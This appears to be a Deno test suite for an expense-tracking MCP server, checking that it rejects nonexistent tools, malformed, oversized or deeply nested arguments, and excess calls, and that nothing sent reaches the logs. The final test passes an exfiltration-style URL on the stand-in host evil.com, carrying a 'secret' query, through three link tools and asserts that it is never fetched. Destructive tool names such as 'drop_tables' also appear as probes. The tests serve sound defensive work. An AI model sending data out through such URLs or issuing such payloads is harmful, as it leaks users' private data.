import assert from "node:assert/strict";
import { createMcpApp } from "../../../shared/mcp/create-mcp-app.ts";
import { page, startFakeWeb } from "../../support/fake-web.ts";
import { type Stack, startStack } from "../../support/stack.ts";
import { whereItIs } from "../consolidation/zone-at-hour.ts";
import { connect, expense, headers, mcpUrl, offered, textOf } from "./client.ts";

/** A call as an older client writes it, with arguments that no client would. */
async function post(stack: Stack, token: string, args: string): Promise<{ status: number; text: string }> {
  const body = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"create_expense","arguments":${args}}}`;
  const response = await fetch(mcpUrl(stack), { method: "POST", headers: headers(token), body });
  return { status: response.status, text: await response.text() };
}

Deno.test("what does not fit is mended or told in a sentence, and logged without a word of it", async (t) => {
  const stack = await startStack();
  const ana = await stack.createUser("Ana", whereItIs(12));
  const claude = await connect(stack, ana.token);
  const logged: unknown[][] = [];
  const console_ = { ...console };
  for (const method of ["error", "warn", "info", "log"] as const) console[method] = (...line) => logged.push(line);

  await t.step("a tool that there is not: an error of the protocol", async () => {
    for (const name of ["drop_tables", "forget_everything", "get_person", "use_skill", "prepare_create_expense"]) {
      await assert.rejects(claude.callTool({ name }), /Essa ferramenta não existe aqui/);
    }
  });
  await t.step("arguments of the wrong kind are mended where that is certain", async () => {
    const { offer } = offered(
      await claude.callTool({
        name: "create_expense",
        arguments: { amount: "12,90", description: "pão", category: "Food", date: null },
      }),
    );
    assert.match(offer, /R\$ 12,90 em alimentação \(pão\), de hoje/);
  });
  await t.step("and otherwise the reason is the result", async () => {
    for (const args of [{ amount: "segredo" }, { amount: -1, category: "food" }, {}]) {
      const result = await claude.callTool({ name: "create_expense", arguments: args });
      assert.ok(result.isError);
      assert.match(textOf(result), /^Não rodei: argumentos que não servem \(/);
    }
  });
  await t.step("what the tool itself refuses, likewise", async () => {
    const result = await claude.callTool({ name: "mark_bill_paid", arguments: { bill_name: "Luz" } });
    assert.ok(result.isError);
    assert.match(textOf(result), /^Você não tem nenhuma conta em aberto aqui\./);
  });
  await t.step("arguments thousands of levels deep", async () => {
    const result = await post(stack, ana.token, `{"amount":${"[".repeat(9000)}${"]".repeat(9000)}}`);
    assert.ok(result.status < 500, `${result.status}`);
  });
  await t.step("more than anybody needs: 400", async () => {
    const { status } = await post(stack, ana.token, JSON.stringify({ description: "segredo".repeat(20_000) }));
    assert.equal(status, 400);
  });
  await t.step("no JSON, no method, no session", async () => {
    for (const [method, body] of [["POST", "{segredo"], ["POST", "[]"], ["GET", undefined], ["DELETE", undefined]]) {
      const response = await fetch(mcpUrl(stack), { method, body, headers: headers(ana.token) });
      await response.body?.cancel();
      assert.ok(response.status >= 400 && response.status < 500, `${method} ${response.status}`);
    }
  });
  await t.step("to listen for changes: there are none", async () => {
    await assert.rejects(claude.listen({ toolsListChanged: true }), /limit|support/i);
  });
  await t.step("calls are counted: one too many is told so", async () => {
    await stack.sql("update private.settings set value = '1' where key = 'mcp_calls_per_day'");
    // Those before may have been on another day.
    await claude.callTool({ name: "get_habits" });
    for (const request of [{ name: "get_habits" }, expense(5)]) {
      const result = await claude.callTool(request);
      assert.ok(result.isError);
      assert.match(textOf(result), /^Foram pedidos demais em pouco tempo\. Tente de novo amanhã\./);
    }
  });
  await t.step("nothing of what was sent is in the log", () => {
    Object.assign(console, console_);
    assert.doesNotMatch(JSON.stringify(logged), /segredo|pão|Luz/);
  });
  Object.assign(console, console_);
  await claude.close();
  await stack.close();
});

Deno.test("an address that another assistant sends is read by nobody: it could carry away what was read", async () => {
  const web = startFakeWeb({ "evil.com/": page("Evil") });
  const stack = await startStack({ functions: { mcp: createMcpApp(web.network) } });
  const claude = await connect(stack, (await stack.createUser("Ana")).token);
  for (const name of ["save_link", "save_video", "enrich_video"]) {
    await claude.callTool({ name, arguments: { url: "https://evil.com/?q=segredo" } });
  }
  assert.deepEqual(web.requests, []);
  await claude.close();
  await stack.close();
  await web.close();
});
